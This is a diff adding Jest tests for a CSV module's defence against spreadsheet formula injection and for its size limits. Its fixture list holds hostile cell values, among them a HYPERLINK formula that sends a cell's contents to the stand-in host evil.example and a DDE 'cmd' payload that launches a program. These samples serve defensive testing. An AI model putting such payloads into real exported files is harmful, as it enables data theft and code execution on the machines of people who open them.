@@ -107,6 +107,90 @@ describe('core:csv writes', () => {
   });
 });
 
+describe('core:csv and spreadsheets', () => {
+  const FORMULAS = [
+    '=1+1',
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    "+cmd|' /C calc'!A0",
+    '-2+3+cmd|x',
+    '-SUM(A1)',
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '－A1',
+  ];
+  const PLAIN = [
+    '-5',
+    '+5',
+    '-1.5e3',
+    '-1.5E+3',
+    '-',
+    '-12 %',
+    '+32 (0)470/12.34.56',
+    '-1,234.50',
+    'a=b',
+    ' =',
+    'x@y.z',
+  ];
+
+  test('what a spreadsheet would run is written as a text, in rows and header, and the warning says how often', () => {
+    for (const text of FORMULAS) {
+      const outcome = csv({ rows: [{ a: text }, [text]], columns: ['a'] });
+      expect(outcome).toMatchObject({
+        warnings: [{ code: 'CSV_FORMULAS', message: expect.stringMatching(/^2 fields/) }],
+      });
+      const again = valueOf(csv({ text: textOf(valueOf(outcome)) }));
+      expect(again).toMatchObject({ rows: [{ a: `'${text}` }, { a: `'${text}` }] });
+    }
+    expect(valueOf(csv({ rows: [{ '=1+1': 1 }] }))).toEqual({ text: "'=1+1\r\n1" });
+  });
+
+  test('numbers, telephone numbers and dashes stay as they are, and so does everything where it is asked for', () => {
+    for (const value of [...PLAIN, -5, -1.5e300]) {
+      const outcome = csv({ rows: [{ a: value }] });
+      expect(outcome).toMatchObject({ ok: true, warnings: [] });
+      expect(valueOf(csv({ text: textOf(valueOf(outcome)) }))).toMatchObject({ rows: [{ a: String(value) }] });
+    }
+    for (const given of [{ input: 'keep' }, { config: 'keep' }, { input: 'keep', config: 'escape' }]) {
+      const { input, config } = { input: undefined, config: undefined, ...given };
+      const outcome = csv(
+        { rows: [{ a: '=1+1' }], ...(input === undefined ? {} : { formulas: input }) },
+        { header: true, ...(config === undefined ? {} : { formulas: config }) },
+      );
+      expect(outcome).toMatchObject({ value: { text: 'a\r\n=1+1' }, warnings: [] });
+    }
+  });
+});
+
+function textOf(value: Json): string {
+  return isJsonObject(value) && typeof value.text === 'string' ? value.text : '';
+}
+
+describe('core:csv refuses more than 2,000,000 fields, or 100,000 columns', () => {
+  test.each([
+    ['in one line', ','.repeat(3e6)],
+    ['as columns', 'a,'.repeat(200_000)],
+    ['in all of them', 'a,b,c,d\n'.repeat(600_000)],
+    ['that a header makes of short rows', `${'a,'.repeat(2_000)}\n${'1\n'.repeat(2_000)}`],
+  ])('%s', (_, text) => {
+    expect(csv({ text })).toMatchObject({
+      error: { code: 'LIMIT_ERROR', details: { type: 'csv', reason: 'too_large' } },
+    });
+  });
+
+  test('that keys make of rows', () => {
+    const rows = Array.from({ length: 2_000 }, (_, index) => ({ [`k${index}`]: 1 }));
+    expect(csv({ rows })).toMatchObject({ error: { code: 'LIMIT_ERROR', details: { reason: 'too_large' } } });
+  });
+
+  test('and names 90,000 columns that are called the same without delay', () => {
+    const { length } = (valueOf(csv({ text: `${'a,'.repeat(90_000)}\n1` })) as { columns: string[] }).columns;
+    expect(length).toBe(90_001);
+  });
+});
+
 test('core:csv refuses both or neither of text and rows', () => {
   for (const input of [{}, { text: 'a', rows: [] }]) {
     expect(csv(input)).toMatchObject({ ok: false, error: { code: 'VALIDATION_ERROR' } });
